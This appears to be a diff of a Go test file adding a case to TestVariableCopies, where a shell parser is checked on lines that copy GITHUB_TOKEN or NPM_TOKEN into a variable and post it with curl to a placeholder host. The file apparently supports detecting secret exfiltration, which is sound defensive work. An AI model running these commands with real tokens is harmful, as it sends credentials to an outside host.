@@ -288,6 +288,7 @@ func TestVariableCopies(t *testing.T) {
 		{`export K="${NPM_TOKEN}"; curl -d "x=$K" https://x.example`, "x=${NPM_TOKEN}"},
 		{`K=$GITHUB_TOKEN; K=other; curl -d "$K" https://x.example`, "other"},
 		{`K=$GITHUB_TOKEN; curl -d "${K:-x}" https://x.example`, "${K:-x}"},
+		{`for K in "$GITHUB_TOKEN"; do curl -d "$K" https://x.example; done`, "${GITHUB_TOKEN}"},
 	} {
 		l := ParseShell(tt.line, "bash")
 		c := l.Commands[len(l.Commands)-1]
